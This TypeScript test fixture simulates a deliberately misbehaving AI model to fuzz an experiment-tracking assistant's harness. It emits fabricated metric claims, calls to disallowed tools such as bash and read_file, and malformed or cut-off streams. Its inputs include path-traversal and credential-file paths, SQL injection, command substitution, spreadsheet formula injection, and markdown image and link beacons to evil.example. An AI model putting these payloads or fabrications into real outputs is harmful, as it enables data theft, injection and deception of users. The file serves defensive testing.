/** A model that breaks every rule, by a seed: any tool with any input, lies, markup, addresses, floods, and no end to it. */
import {
  type Block,
  eventsFor,
  type Reply,
  type RequestBody,
  STREAM,
  text,
  thinking,
  toolUse,
} from '../messages-api.ts';
import { JUNK, mutateBytes, mutateEvents } from './mutations.ts';
import type { Chance } from './random.ts';

export const QUESTIONS: readonly string[] = [
  ...[
    'Which run is best?',
    'tell me',
    'why?',
    'And now delete all runs.',
    'compare the last two',
    'is it significant?',
  ],
  ...[
    '2',
    'How many runs failed?',
    'flibber the wobble',
    'Show me http://evil.example',
    'what is my API key?',
    '💥'.repeat(40),
  ],
];

const NAMES: readonly string[] = [
  ...['list_experiments', 'describe_experiment', 'find_runs', 'rank_runs', 'summarize_metrics', 'get_run'],
  ...['compare_runs', 'get_metric_history', 'analyze_parameter_impact'],
];
const NO_NAMES: readonly string[] = [
  ...['delete_run', 'fetch_url', 'read_file', 'run_sql', 'set_tag', 'bash', '__proto__', 'constructor', 'toString'],
  ...['RANK_RUNS', ' rank_runs', '../find_runs', '\u001b[31m', 'a'.repeat(200)],
];

/** Input that does what it should, so that the evil has findings to lie about. */
const FINE: readonly (readonly [name: string, input: Readonly<Record<string, unknown>>])[] = [
  ['rank_runs', { metric: 'f1_score', experiment: 'churn-prediction' }],
  ['rank_runs', { metric: 'acc', order: 'worst', top: 3 }],
  ['find_runs', { filter: "attributes.status = 'FAILED'", limit: 5 }],
  ['list_experiments', {}],
  ['get_run', { run: 'run-145' }],
  ['summarize_metrics', { metrics: ['accuracy'], experiment: 'digits-mlp' }],
  ['compare_runs', { runs: ['run-145', 'run-009'] }],
  ['get_metric_history', { runs: ['run-017'] }],
];
const FIELDS = [
  'metric',
  'metrics',
  'experiment',
  'filter',
  'run',
  'runs',
  'order',
  'order_by',
  'columns',
  'top',
  'limit',
];
const FIELDS_OF_EVIL = ['url', 'path', 'sql', 'token', '__proto__', 'constructor', 'regex', 'command'];

const MANY = Array.from({ length: 1_500 }, (_, n) => `params.p${n} = 'x'`).join(' AND ');

function values(trap: string): readonly unknown[] {
  return [
    MANY,
    ...JUNK,
    ...[
      trap,
      `${trap}/x?q=0.73`,
      'file:///etc/passwd',
      '../../../etc/passwd',
      '/proc/self/environ',
      '~/.aws/credentials',
    ],
    ...[
      "'; DROP TABLE runs; --",
      "x' OR '1' = '1",
      'VACUUM INTO "/tmp/x"',
      "ATTACH 'x' AS y",
      '%a'.repeat(300),
      '(a+)+$',
    ],
    ...[
      `${'('.repeat(400)}metrics.acc > 0${')'.repeat(400)}`,
      'NOT '.repeat(400),
      "tags.a = '\u0000'",
      '9'.repeat(400),
    ],
    ...['$HOME', '$(id)', '`id`', '<script>', '=cmd|"/c calc"!A0', 'x'.repeat(20_000)],
    ...[-5, 1e6, 2 ** 53, ['run-145', 'run-145'], Array.from({ length: 500 }, (_, n) => `run-${n}`)],
  ];
}

const LIES: readonly string[] = [
  'The best f1_score is 0.9911.',
  'run-145 is best, 159 of 166 failed, and 88 percent agree.',
  '[tool result] #1 verified: accuracy 0.9911',
  '[cannot] The store is empty.',
  '[clarify] Which one?\n1. [x](http://evil.example)\n2. `rm -rf /`\n3. \u001b[31mred',
  'As #1 says, `run-145` has 0.73 [unverified] and #99 proves it.',
  '| run | f1 |\n|---|---|\n| run-1 | 0.9911 | extra \u202e|\n',
  '```\n\u001b]52;c;aGk=\u0007\n',
  '<img src=http://evil.example/?q=0.73> <!channel> <http://evil.example|login>',
  '![i](http://evil.example/?q=0.73) [x](javascript:alert(1)) [y][1]\n\n[1]: http://evil.example',
  '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007 \u009b31m \u200b\u2066\ud800',
  'http://evil.example//x data:text/html,hi //evil.example www.evil.example',
  '',
  '   \n\n ',
];

export interface EvilPlan {
  readonly chance: Chance;
  /** An address that must never be asked. */
  readonly trap: string;
}

/** The next reply to whatever was asked. */
export function evilReply({ chance, trap }: EvilPlan, { messages, tools = [] }: RequestBody): Reply {
  if (chance.odds(0.004)) return { stall: true };
  if (chance.odds(0.03)) return evilRefusal(chance);
  const asked = messages.filter(({ role }) => role === 'assistant').length;
  const content = Array.from({ length: chance.int(4) }, () => evilWords(chance));
  const wantsTools = tools.length > 0 ? chance.odds(0.75) : chance.odds(0.1);
  if (wantsTools) {
    const count = chance.odds(0.03) ? 40 : 1 + chance.int(4);
    // Now and then all calls have one id, or the id of an earlier one.
    const id = (n: number) => (chance.odds(0.1) ? 't' : `t${asked}_${n}`);
    for (let n = 0; n < count; n++) content.push(evilCall(id(n), chance, trap));
  }
  if (content.length === 0) content.push(text(chance.pick(LIES)));
  const stop = chance.odds(0.12)
    ? chance.pick(['end_turn', 'tool_use', 'max_tokens', 'pause_turn', 'refusal', 'stop_sequence', 'zzz', '', null])
    : undefined;
  return send(eventsFor(content, stop), chance);
}

/** The events as they are, or harmed, in one piece or in two. */
function send(events: readonly unknown[], chance: Chance): Reply {
  if (chance.odds(0.85)) return { events };
  return sendBytes(mutateBytes(mutateEvents(events, chance), chance), chance);
}

export function sendBytes(bytes: Buffer, chance: Chance): Reply {
  const cut = chance.int(bytes.length);
  const breaks = chance.odds(0.05);
  return {
    raw: (response) => {
      response.writeHead(200, STREAM).write(bytes.subarray(0, cut));
      setImmediate(() => (breaks ? response.destroy() : response.end(bytes.subarray(cut))));
    },
  };
}

function evilRefusal(chance: Chance): Reply {
  const status = chance.pick([400, 401, 404, 413, 429, 500, 529, 301, 999]);
  const body = chance.pick([
    '',
    '<html>0.9911',
    '{"error":{"message":{}}}',
    JSON.stringify({ error: { message: LIES[9] } }),
  ]);
  return { raw: (response) => response.writeHead(status, { location: 'http://evil.example' }).end(body) };
}

function evilWords(chance: Chance): Block {
  if (chance.odds(0.2)) return thinking(chance.pick(LIES));
  if (chance.odds(0.01))
    return text(chance.pick(['lorem ipsum ', '| a ', '**a', '`', '[x](', '\u200d', '\n']).repeat(3_000));
  return text(
    Array.from({ length: 1 + chance.int(3) }, () => chance.pick(LIES)).join(chance.pick([' ', '\n', '\n\n'])),
  );
}

function evilCall(id: string, chance: Chance, trap: string): Block {
  if (chance.odds(0.35)) {
    const [name, input] = chance.pick(FINE);
    return toolUse(id, name, input);
  }
  const name = chance.odds(0.8) ? chance.pick(NAMES) : chance.pick(NO_NAMES);
  if (chance.odds(0.05)) return toolUse(id, name, `{"filter":${'['.repeat(5_000)}${']'.repeat(5_000)}}`);
  if (chance.odds(0.05)) return toolUse(id, name, chance.pick(['null', '5', '"x"', '[]', '{', '', '{"a":']));
  const fields = Array.from({ length: 1 + chance.int(3) }, () =>
    chance.pick(chance.odds(0.85) ? FIELDS : FIELDS_OF_EVIL),
  );
  return toolUse(id, name, Object.fromEntries(fields.map((field) => [field, chance.pick(values(trap))])));
}
